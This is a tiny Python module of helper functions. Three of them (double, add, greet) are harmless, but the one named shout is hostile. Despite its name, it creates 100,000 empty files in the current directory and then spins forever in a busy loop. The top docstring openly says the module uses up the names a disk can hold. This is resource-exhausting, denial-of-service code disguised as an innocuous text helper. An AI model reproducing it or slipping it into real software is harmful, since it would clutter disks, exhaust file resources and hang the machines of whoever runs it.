"""Uses up the names that a disk can hold."""


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    for number in range(100_000):
        open(f"{number}", "w").close()
    while True:
        pass
